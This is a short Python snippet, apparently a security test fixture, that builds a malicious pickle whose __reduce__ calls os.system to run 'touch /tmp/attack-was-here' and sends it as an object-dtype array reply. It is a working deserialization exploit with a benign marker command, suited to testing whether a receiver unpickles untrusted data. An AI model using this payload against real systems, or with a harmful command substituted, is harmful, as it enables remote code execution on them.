"""Answers with an array of objects whose bytes are a pickle that would create a file."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)


def attack(a, *rest, **named):
    data = pickle.dumps(Payload())
    send(reply(nonce(), [{"dtype": "|O", "shape": [1]}]), data)
    return a
